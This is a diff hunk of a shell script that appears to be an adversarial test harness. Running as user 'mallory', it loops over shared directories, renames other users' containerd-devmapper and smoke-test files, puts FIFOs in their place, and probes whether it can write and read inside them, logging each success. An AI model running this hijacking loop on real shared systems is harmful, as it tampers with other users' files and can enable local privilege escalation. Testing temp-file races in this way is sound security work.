@@ -23,7 +23,7 @@ while [ -e /home/mallory/go ]; do
     for made in "$d"/*containerd-devmapper* "$d"/smoke-* "$d"/.containerd-devmapper*; do
       if [ ! -e "$made" ] || [ -O "$made" ]; then continue; fi
       mv "$made" "$made.mine" 2>/dev/null && { mkfifo "$made" 2>/dev/null; echo "took $made" >>/home/mallory/won; }
-      : >"$made/file" 2>/dev/null && echo "wrote $made/file" >>/home/mallory/won
+      true 2>/dev/null >"$made/file" && echo "wrote $made/file" >>/home/mallory/won
       cat "$made/file" >/dev/null 2>&1 && echo "read $made/file" >>/home/mallory/won
     done
   done
